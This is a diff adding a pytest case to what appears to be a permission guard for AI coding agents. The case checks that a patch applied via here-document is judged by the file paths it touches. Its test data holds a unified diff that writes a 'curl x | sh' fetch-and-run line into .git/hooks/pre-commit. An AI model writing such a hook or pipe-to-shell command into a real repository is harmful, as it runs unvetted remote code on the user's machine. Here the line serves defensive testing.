@@ -151,3 +151,12 @@ def test_a_moved_or_deleted_file_outside_the_workspace_counts() -> None:
 
 def test_an_apply_patch_reading_its_patch_from_a_file_is_asked() -> None:
     assert decide("codex", codex({"command": "apply_patch < change.patch"})) != "allow"
+
+
+@pytest.mark.parametrize("tool", ["patch -p1", "git apply"])
+def test_a_unified_diff_in_a_here_document_is_judged_by_its_paths(tool: str) -> None:
+    diff = "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"
+    payload = claude("Bash", {"command": f"{tool} <<'EOF'\n{diff}EOF\n"})
+    assert decide("claude-code", payload) == guard("printf '' >> .git/hooks/pre-commit", WS) != "allow"
+    ok = claude("Bash", {"command": f"{tool} <<'EOF'\n{diff.replace('.git/hooks/pre-commit', 'src/a.py')}EOF\n"})
+    assert decide("claude-code", ok) == "allow"
